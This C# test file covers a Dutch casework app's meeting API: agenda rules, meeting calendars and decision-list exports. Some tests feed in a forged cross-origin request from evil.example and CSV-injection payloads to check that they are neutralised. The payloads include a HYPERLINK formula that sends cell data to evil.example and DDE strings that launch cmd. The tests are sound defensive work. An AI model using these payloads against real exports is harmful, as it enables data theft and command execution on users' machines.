using System.Globalization;
using System.Net;
using static Casework.Web.Tests.Escalation.Scenario;

namespace Casework.Web.Tests.Escalation;

public sealed class MeetingTests : IAsyncLifetime
{
    private readonly EscalationHost _host = new();

    public Task InitializeAsync() => Task.CompletedTask;

    public async Task DisposeAsync() => await _host.DisposeAsync();

    private static string D(DateOnly d) => d.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);

    [Fact]
    public async Task CloseMeeting_WithOnlyThePageCookieFromAnotherOrigin_Is401WithTheReason_AndTheMeetingStaysOpen()
    {
        var date = _host.Today.AddDays(10);
        var meeting = await PlanMeeting(_host, Sbsd, "SBSD", date);
        _host.AdvanceTo(date);

        // A hostile page posts a form to the API; the secretary's browser adds the session cookie.
        var browser = await _host.BrowserOf(Sbsd);
        var forged = new HttpRequestMessage(HttpMethod.Post, $"/api/v1/meetings/{meeting.Id()}/close") { Content = new FormUrlEncodedContent([]) };
        forged.Headers.Add("Origin", "http://evil.example");
        using var response = await browser.SendAsync(forged);

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
        Assert.Contains("bearer-token", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        var (_, open) = await (await _host.As(Sbsd)).Get($"/api/v1/meetings/{meeting.Id()}");
        Assert.NotEqual("Gesloten", open.Str("status"));

        // The same close with the secretary's token works: the refusal was about the cookie, not the meeting.
        await Expect(HttpStatusCode.OK, await (await _host.As(Sbsd)).Post($"/api/v1/meetings/{meeting.Id()}/close", new { }));
    }

    /// <summary>
    /// "Agenderen" with a free-text meeting moved the case to Geagendeerd while it was on no agenda, and the SBSD's
    /// decision was then blocked. Whichever way the action is fired, it names a planned meeting of the body and puts
    /// the case on its agenda.
    /// </summary>
    [Fact]
    public async Task AgenderenThroughTheGenericAction_WithFreeText_IsRefusedAndChangesNothing_WithAMeeting_PutsTheCaseOnItsAgenda()
    {
        var id = await KnelpuntWithProposal(_host);
        var date = _host.Today.AddDays(10);
        var meeting = await PlanMeeting(_host, Sbsd, "SBSD", date);
        var brsd = await PlanMeeting(_host, Brsd, "BRSD", date);
        var sbsd = await _host.As(Sbsd);
        var before = await CaseOf(_host, Sbsd, id);

        var (freeText, problem) = await sbsd.Fire(id, "agenderenSbsd", data: new { vergadering = "SB van volgende week" });
        var (otherBody, _) = await sbsd.Fire(id, "agenderenSbsd", data: new { vergadering = brsd.Id().ToString() });

        Assert.Equal(HttpStatusCode.BadRequest, freeText);
        Assert.Contains("data.vergadering", problem.GetProperty("errors").EnumerateObject().Select(e => e.Name));
        Assert.Equal(HttpStatusCode.BadRequest, otherBody);
        var unchanged = await CaseOf(_host, Sbsd, id);
        Assert.Equal(before.Str("state"), unchanged.Str("state"));
        Assert.Equal(before.GetProperty("version").GetInt32(), unchanged.GetProperty("version").GetInt32());

        await Expect(HttpStatusCode.OK, await sbsd.Fire(id, "agenderenSbsd", data: new { vergadering = meeting.Id().ToString() }));

        var (_, planned) = await sbsd.Get($"/api/v1/meetings/{meeting.Id()}");
        var item = Assert.Single(planned.GetProperty("items").EnumerateArray());
        Assert.Equal(id, item.GetProperty("caseId").GetGuid());

        // The body can now decide on it once the meeting is held, as when the meeting page agendered it.
        _host.AdvanceTo(date);
        await Expect(HttpStatusCode.OK, await sbsd.Post(
            $"/api/v1/meetings/{meeting.Id()}/agenda-items/{item.Id()}/decision",
            new { action = "sbsdEscaleren", besluit = "Het SBSD legt het knelpunt voor aan de BRSD.", reason = "Vraagt een besluit op bestuurlijk niveau." }));
        Assert.Equal("escalatieBrsd", (await CaseOf(_host, Sbsd, id)).Str("state"));
    }

    [Fact]
    public async Task PlanMeeting_InThePast_IsRefused_AndADefaultTitleReadsAsADutchDate()
    {
        var (past, problem) = await (await _host.As(Sbsd)).Post("/api/v1/meetings", new { body = "SBSD", date = D(_host.Today.AddDays(-1)) });
        var planned = await PlanMeeting(_host, Sbsd, "SBSD", new DateOnly(2026, 3, 12));

        Assert.Equal(HttpStatusCode.BadRequest, past);
        Assert.Contains("date", problem.GetProperty("errors").EnumerateObject().Select(e => e.Name));
        Assert.Equal("Strategisch Beraad Sociaal Domein van 12 maart 2026", planned.Str("title"));
    }

    [Fact]
    public async Task CloseMeeting_WithUnhandledItem_MovesItToNextMeetingOfSameBodyKeepingHistory()
    {
        var id = await KnelpuntWithProposal(_host);
        var first = _host.Today.AddDays(10);
        var meeting = await PlanMeeting(_host, Sbsd, "SBSD", first);
        var later = await PlanMeeting(_host, Sbsd, "SBSD", first.AddDays(14));
        await PlanMeeting(_host, Brsd, "BRSD", first.AddDays(7));
        var item = await AddToAgenda(_host, Sbsd, meeting.Id(), id);
        _host.AdvanceTo(first);

        await Expect(HttpStatusCode.OK, await (await _host.As(Sbsd)).Post($"/api/v1/meetings/{meeting.Id()}/close", new { }));

        var (_, closed) = await (await _host.As(Sbsd)).Get($"/api/v1/meetings/{meeting.Id()}");
        Assert.Equal("Gesloten", closed.Str("status"));
        var old = closed.GetProperty("items")[0];
        Assert.Equal("Doorgeschoven", old.Str("status"));
        var (_, next) = await (await _host.As(Sbsd)).Get($"/api/v1/meetings/{later.Id()}");
        var moved = Assert.Single(next.GetProperty("items").EnumerateArray());
        Assert.Equal(id, moved.GetProperty("caseId").GetGuid());
        Assert.Equal(item.Id(), moved.GetProperty("previousItemId").GetGuid());
        Assert.Equal(moved.Id(), old.GetProperty("nextItemId").GetGuid());

        // The carried-over item is decided at the next meeting, which fires the case's action.
        _host.AdvanceTo(first.AddDays(14));
        await Expect(HttpStatusCode.OK, await (await _host.As(Sbsd)).Post($"/api/v1/meetings/{later.Id()}/agenda-items/{moved.Id()}/decision", new { action = "sbsdTerugNaarAnalyse", besluit = "Terug voor nadere analyse", reason = "Onderbouwing ontbreekt" }));
        Assert.Equal("analyse", (await CaseOf(_host, Sbsd, id)).Str("state"));
        var (_, history) = await (await _host.As(Sbsd)).Get($"/api/v1/cases/{id}/history");
        Assert.Contains("agenda.doorgeschoven", history.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task CloseMeeting_WithoutPlannedNextMeeting_PlansOneFromTheRhythm()
    {
        var id = await KnelpuntWithProposal(_host);
        var first = _host.Today.AddDays(10);
        var meeting = await PlanMeeting(_host, Sbsd, "SBSD", first);
        await AddToAgenda(_host, Sbsd, meeting.Id(), id);
        _host.AdvanceTo(first);

        await Expect(HttpStatusCode.OK, await (await _host.As(Sbsd)).Post($"/api/v1/meetings/{meeting.Id()}/close", new { }));

        var (_, list) = await (await _host.As(Sbsd)).Get($"/api/v1/meetings?body=SBSD&fromDate={D(first.AddDays(1))}");
        var next = Assert.Single(list.GetProperty("items").EnumerateArray());
        Assert.Equal(D(first.AddDays(14)), next.Str("date"));
        Assert.Equal(1, next.GetProperty("itemCount").GetInt32());
    }

    [Fact]
    public async Task AddAgendaItem_AfterCutOff_Returns422UnlessSecretaryGivesReason()
    {
        var id = await KnelpuntWithProposal(_host);
        var date = _host.Today.AddDays(3);
        var meeting = await PlanMeeting(_host, Sbsd, "SBSD", date);
        Assert.Equal(D(date.AddDays(-7)), meeting.Str("cutOffDate"));

        var late = await (await _host.As(Sbsd)).Post($"/api/v1/meetings/{meeting.Id()}/agenda-items", new { caseId = id });
        Assert.Equal(HttpStatusCode.UnprocessableEntity, late.Status);
        Assert.Contains("AGENDA-GESLOTEN", late.Body.ToString(), StringComparison.Ordinal);
        Assert.Equal("voorstel", (await CaseOf(_host, Sbsd, id)).Str("state"));

        var overridden = await AddToAgenda(_host, Sbsd, meeting.Id(), id, "Spoedeisend: wethouder vraagt besluit voor de begroting.");
        Assert.Equal("Spoedeisend: wethouder vraagt besluit voor de begroting.", overridden.Str("lateReason"));
        Assert.Equal("geagendeerdSbsd", (await CaseOf(_host, Sbsd, id)).Str("state"));
    }

    [Fact]
    public async Task AddAgendaItem_CaseNotReadyForThatBody_Returns422_OtherBodysSecretary403()
    {
        var id = await RaiseKnelpunt(_host);
        var date = _host.Today.AddDays(10);
        var sbsd = await PlanMeeting(_host, Sbsd, "SBSD", date);

        var notReady = await (await _host.As(Sbsd)).Post($"/api/v1/meetings/{sbsd.Id()}/agenda-items", new { caseId = id });
        Assert.Equal(HttpStatusCode.UnprocessableEntity, notReady.Status);
        Assert.Contains("ZAAK-NIET-AGENDEERBAAR", notReady.Body.ToString(), StringComparison.Ordinal);

        var otherBody = await (await _host.As(Brsd)).Post($"/api/v1/meetings/{sbsd.Id()}/agenda-items", new { caseId = id });
        Assert.Equal(HttpStatusCode.Forbidden, otherBody.Status);
    }

    [Fact]
    public async Task GenerateCalendar_ForSbsd_PlansEveryTwoWeeksOnWorkingDaysAndIsIdempotent()
    {
        var request = new { body = "SBSD", fromDate = "2026-01-05", untilDate = "2026-03-31" };

        var (status, calendar) = await (await _host.As(Sbsd)).Post("/api/v1/meetings/calendar", request);

        await Expect(HttpStatusCode.OK, (status, calendar));
        Assert.Equal(7, calendar.GetProperty("created").GetInt32());
        Assert.Equal(
            ["2026-01-05", "2026-01-19", "2026-02-02", "2026-02-16", "2026-03-02", "2026-03-16", "2026-03-30"],
            calendar.GetProperty("meetings").EnumerateArray().Select(m => m.Str("date")));
        var (_, again) = await (await _host.As(Sbsd)).Post("/api/v1/meetings/calendar", request);
        Assert.Equal(0, again.GetProperty("created").GetInt32());
        Assert.Equal(7, again.GetProperty("meetings").GetArrayLength());

        var (bo, boCalendar) = await (await _host.As("bo-secretaris")).Post("/api/v1/meetings/calendar", new { body = "BO", fromDate = "2026-01-01", untilDate = "2027-12-31" });
        await Expect(HttpStatusCode.OK, (bo, boCalendar));

        // 1 January is New Year's Day: the yearly overleg moves to the next working day.
        Assert.Equal(["2026-01-02", "2027-01-04"], boCalendar.GetProperty("meetings").EnumerateArray().Select(m => m.Str("date")));
        var (forbidden, _) = await (await _host.As(Brsd)).Post("/api/v1/meetings/calendar", request);
        Assert.Equal(HttpStatusCode.Forbidden, forbidden);
    }

    [Fact]
    public async Task SecretaryViews_ReadyCasesBoardAndBesluitenlijstCsv_ShowTheMeetingsWork()
    {
        var ready = await KnelpuntWithProposal(_host);
        var waiting = await RaiseKnelpunt(_host);
        var date = _host.Today.AddDays(10);
        var meeting = await PlanMeeting(_host, Sbsd, "SBSD", date);

        var (_, readyCases) = await (await _host.As(Sbsd)).Get($"/api/v1/meetings/{meeting.Id()}/ready-cases");
        var only = Assert.Single(readyCases.EnumerateArray());
        Assert.Equal(ready, only.Id());
        Assert.Equal("agenderenSbsd", only.Str("agenderingAction"));

        var (_, board) = await (await _host.As(Sbsd)).Get("/api/v1/escalation-board");
        var levels = board.GetProperty("levels").EnumerateArray().ToDictionary(l => l.Str("level"));
        Assert.Equal(1, levels["SBSD"].GetProperty("count").GetInt32());
        Assert.Equal(meeting.Id(), levels["SBSD"].GetProperty("nextMeeting").Id());
        Assert.Equal(waiting, Assert.Single(levels["triage"].GetProperty("cases").EnumerateArray()).Id());

        var item = await AddToAgenda(_host, Sbsd, meeting.Id(), ready);
        _host.AdvanceTo(date);
        await Expect(HttpStatusCode.OK, await (await _host.As(Sbsd)).Post($"/api/v1/meetings/{meeting.Id()}/agenda-items/{item.Id()}/decision", new
        {
            action = "sbsdBesluitOpgelost",
            besluit = "Opgelost, met \"handreiking\", kostendelersnorm",
            data = new { uitkomst = "opgelost-binnen-bestaande-ruimte" },
            actionItems = new[] { new { description = "Handreiking publiceren", owner = "SZW", dueDate = D(date.AddDays(28)) } },
        }));
        (await _host.As(Sbsd)).DefaultRequestHeaders.Accept.Clear();
        using var response = await (await _host.As(Sbsd)).GetAsync($"/api/v1/meetings/{meeting.Id()}/besluitenlijst.csv");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal($"besluitenlijst-sbsd-{date:dd-MM-yyyy}.csv", response.Content.Headers.ContentDisposition?.FileNameStar);
        Assert.Contains("no-store", response.Headers.CacheControl?.ToString(), StringComparison.Ordinal);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(new byte[] { 0xEF, 0xBB, 0xBF }, bytes[..3]);
        var rows = Casework.Web.Tests.Export.TableExportTests.ParseCsv(bytes);
        Assert.Equal(["Nr.", "Zaaknummer", "Soort", "Onderwerp", "Agendapunt", "Uitkomst", "Besluit", "Besloten op", "Besloten door", "Actiepunten", "Doorgeschoven naar"], rows[0]);
        Assert.Equal(2, rows.Count);
        var row = rows[1];
        Assert.Equal("1", row[0]);
        Assert.Equal("Knelpunt", row[2]);
        Assert.Equal("Besloten", row[4]);
        Assert.Equal("Besluit SBSD, opgelost", row[5]); // the workflow action's label, not its id
        Assert.Equal("Opgelost, met \"handreiking\", kostendelersnorm", row[6]);
        Assert.Equal(date.ToString("dd-MM-yyyy", CultureInfo.InvariantCulture), row[7]);
        Assert.Equal("Strategisch Beraad Sociaal Domein", row[8]);
        Assert.Equal("Ministerie van Sociale Zaken en Werkgelegenheid: Handreiking publiceren (uiterlijk " + date.AddDays(28).ToString("dd-MM-yyyy", CultureInfo.InvariantCulture) + ")", row[9]);
        Assert.DoesNotContain(rows.SelectMany(r => r), cell => cell.Contains("sbsdBesluitOpgelost", StringComparison.Ordinal));

        using var excel = await (await _host.As(Sbsd)).GetAsync($"/api/v1/meetings/{meeting.Id()}/besluitenlijst.xlsx");
        Assert.Equal(HttpStatusCode.OK, excel.StatusCode);
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", excel.Content.Headers.ContentType?.MediaType);
        Assert.Equal($"besluitenlijst-sbsd-{date:dd-MM-yyyy}.xlsx", excel.Content.Headers.ContentDisposition?.FileNameStar);
        using var workbook = new ClosedXML.Excel.XLWorkbook(new MemoryStream(await excel.Content.ReadAsByteArrayAsync()));
        var sheet = workbook.Worksheet(1);
        Assert.Equal("Uitkomst", sheet.Cell(1, 6).GetString());
        Assert.Equal(1, sheet.Cell(2, 1).GetValue<int>());
        Assert.Equal(ClosedXML.Excel.XLDataType.DateTime, sheet.Cell(2, 8).DataType);
        Assert.Equal(date.ToDateTime(TimeOnly.MinValue), sheet.Cell(2, 8).GetDateTime());
        Assert.Equal("Besluit SBSD, opgelost", sheet.Cell(2, 6).GetString());

        // The same list as a letter: PDF, as an attachment, with the decision, its outcome and the action item.
        using var pdf = await (await _host.As(Sbsd)).GetAsync($"/api/v1/meetings/{meeting.Id()}/besluitenlijst.pdf");
        Assert.Equal(HttpStatusCode.OK, pdf.StatusCode);
        Assert.Equal("application/pdf", pdf.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", pdf.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal($"besluitenlijst-sbsd-{date:dd-MM-yyyy}.pdf", pdf.Content.Headers.ContentDisposition?.FileNameStar);
        using var letter = UglyToad.PdfPig.PdfDocument.Open(await pdf.Content.ReadAsByteArrayAsync());
        var words = string.Join(" ", letter.GetPages().SelectMany(p => p.GetWords()).Select(w => w.Text));
        Assert.Contains("Besluitenlijst Strategisch Beraad Sociaal Domein", words, StringComparison.Ordinal);
        Assert.Contains("Uitkomst: Besluit SBSD, opgelost", words, StringComparison.Ordinal);
        Assert.Contains("Besluit: Opgelost, met \"handreiking\", kostendelersnorm", words, StringComparison.Ordinal);
        Assert.Contains("Handreiking publiceren", words, StringComparison.Ordinal);
        Assert.Contains("Pagina 1 van", words, StringComparison.Ordinal);
        Assert.DoesNotContain("sbsdBesluitOpgelost", words, StringComparison.Ordinal);
    }

    /// <summary>
    /// Text a user typed reaches the besluitenlijst; a secretary opens it in a spreadsheet. A cell that starts a
    /// formula (OWASP CSV Injection: =, +, -, @, tab, carriage return) must arrive as text, with a leading apostrophe.
    /// </summary>
    [Fact]
    public async Task BesluitenlijstCsv_CellsThatWouldStartAFormula_AreNeutralised()
    {
        const string hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Klik\")";
        const string dde = "+cmd|' /C calc'!A0";
        const string at = "@SUM(1+1)*cmd|' /C calc'!A0";
        var first = await KnelpuntWithProposal(_host, titel: hyperlink);
        var second = await KnelpuntWithProposal(_host, titel: dde);
        var date = _host.Today.AddDays(10);
        var meeting = await PlanMeeting(_host, Sbsd, "SBSD", date);
        var item = await AddToAgenda(_host, Sbsd, meeting.Id(), first);
        await AddToAgenda(_host, Sbsd, meeting.Id(), second);
        _host.AdvanceTo(date);
        await Expect(HttpStatusCode.OK, await (await _host.As(Sbsd)).Post($"/api/v1/meetings/{meeting.Id()}/agenda-items/{item.Id()}/decision", new
        {
            action = "sbsdBesluitOpgelost",
            besluit = at,
            data = new { uitkomst = "opgelost-binnen-bestaande-ruimte" },
            actionItems = new[] { new { description = "Handreiking publiceren", owner = "-2+3", dueDate = D(date.AddDays(28)) } },
        }));

        using var response = await (await _host.As(Sbsd)).GetAsync($"/api/v1/meetings/{meeting.Id()}/besluitenlijst.csv");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        var text = System.Text.Encoding.UTF8.GetString(bytes);

        // Escaped and quoted, so a quote inside the title cannot end the cell and start a formula in the next one.
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Klik\"\")\"", text, StringComparison.Ordinal);
        var rows = Casework.Web.Tests.Export.TableExportTests.ParseCsv(bytes);

        Assert.Equal(3, rows.Count);
        var byTitle = rows.Skip(1).ToDictionary(r => r[3]);
        Assert.Equal(new[] { "'" + hyperlink, "'" + dde }.Order(StringComparer.Ordinal), byTitle.Keys.Order(StringComparer.Ordinal));
        Assert.Equal("'" + at, byTitle["'" + hyperlink][6]);
        Assert.StartsWith("'-2+3: Handreiking publiceren", byTitle["'" + hyperlink][9], StringComparison.Ordinal);
        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"cell starts a formula: {cell}"));

        // The workbook: the same cells, as text that starts with the apostrophe, and no formula anywhere.
        using var excel = await (await _host.As(Sbsd)).GetAsync($"/api/v1/meetings/{meeting.Id()}/besluitenlijst.xlsx");
        using var workbook = new ClosedXML.Excel.XLWorkbook(new MemoryStream(await excel.Content.ReadAsByteArrayAsync()));
        var sheet = workbook.Worksheet(1);
        var titles = Enumerable.Range(2, 2).Select(r => sheet.Cell(r, 4).GetString()).Order(StringComparer.Ordinal).ToList();
        Assert.Equal(new[] { "'" + hyperlink, "'" + dde }.Order(StringComparer.Ordinal), titles);
        Assert.Contains(Enumerable.Range(2, 2), r => sheet.Cell(r, 7).GetString() == "'" + at);
        Assert.All(sheet.CellsUsed(), cell => Assert.False(cell.HasFormula, $"{cell.Address} holds a formula"));
        Assert.All(sheet.CellsUsed().Where(c => c.DataType == ClosedXML.Excel.XLDataType.Text), cell =>
            Assert.False(cell.GetString().Length > 0 && "=+-@\t\r".Contains(cell.GetString()[0], StringComparison.Ordinal), $"{cell.Address} starts a formula: {cell.GetString()}"));
    }
}
